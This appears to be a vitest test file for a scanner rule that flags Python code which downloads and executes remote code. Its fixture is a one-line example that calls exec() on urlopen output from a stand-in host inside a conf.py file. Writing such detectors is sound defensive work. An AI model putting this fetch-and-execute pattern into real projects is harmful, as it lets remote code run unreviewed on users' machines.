import { expect, test } from 'vitest';
import type { When } from '../../src/core/facts/source-facts.js';
import { loadPythonParser } from '../../src/python/parser.js';
import { readSource } from '../../src/python/read-source.js';
import downloadThenRun from '../../src/rules/download-then-run.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
const FETCHES = 'from urllib.request import urlopen\ndef theme():\n    exec(urlopen("https://example.invalid/theme.py").read())\n';

async function severities(runs: When): Promise<readonly string[]> {
  const { facts } = await readSource({ path: 'doc/conf.py', bytes: Buffer.from(FETCHES), runs }, () => parser);
  return facts === null ? [] : downloadThenRun.check(facts).map(({ severity }) => severity);
}

test('a function of a module that runs what it fetches warns', async () => {
  expect(await severities('import')).toEqual(['medium']);
});

test('the same in a script that no install brings to anybody is only listed', async () => {
  expect(await severities('latent')).toEqual(['low']);
});
